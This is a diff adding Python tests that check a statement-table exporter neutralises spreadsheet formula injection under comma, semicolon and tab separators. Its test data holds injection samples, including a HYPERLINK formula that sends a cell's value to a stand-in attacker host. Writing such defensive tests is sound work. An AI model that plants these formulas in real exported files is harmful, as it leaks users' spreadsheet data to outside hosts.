@@ -564,3 +564,32 @@ CELLS = st.text(max_size=20).filter(lambda cell: "\0" not in cell)
 @given(st.lists(st.fixed_dictionaries(dict.fromkeys(statement_table.COLUMNS, CELLS)), max_size=3))
 def test_a_table_reads_back_as_it_was_written(rows: list[dict[str, str]]) -> None:
     assert statement_table.read(statement_table.spell(rows)) == rows
+
+
+FORMULAS = {
+    "at the beginning": "=1+1",
+    "after a semicolon": 'burned;=HYPERLINK("http://evil.example/"&A1;"x")',
+    "after a semicolon and quotes": 'a;""=1+1',
+    "after a tab": "a\t@SUM(1)",
+    "on a line of its own": "a\n-1+1",
+    "behind an apostrophe": "a;'=1+1",
+    "in a value that is no plain word": '{"text":";+1"}',
+}
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+@pytest.mark.parametrize("cell", FORMULAS.values(), ids=FORMULAS.keys())
+def test_no_cell_is_a_formula_whichever_separator_a_spreadsheet_takes(
+    cell: str, separator: str
+) -> None:
+    row = {**dict.fromkeys(statement_table.COLUMNS, "x"), "in_words": cell}
+    data = statement_table.spell([row])
+    lines = csv.reader(io.StringIO(data[3:].decode(), newline=""), delimiter=separator)
+    assert [cell for line in lines for cell in line if cell.startswith(tuple("=+-@"))] == []
+    assert statement_table.read(data) == [row]
+
+
+@given(st.text(alphabet=";\t\n\"'=x", max_size=12))
+def test_what_makes_cells_harmless_is_undone_exactly(cell: str) -> None:
+    row = {**dict.fromkeys(statement_table.COLUMNS, "x"), "in_words": cell}
+    assert statement_table.read(statement_table.spell([row])) == [row]
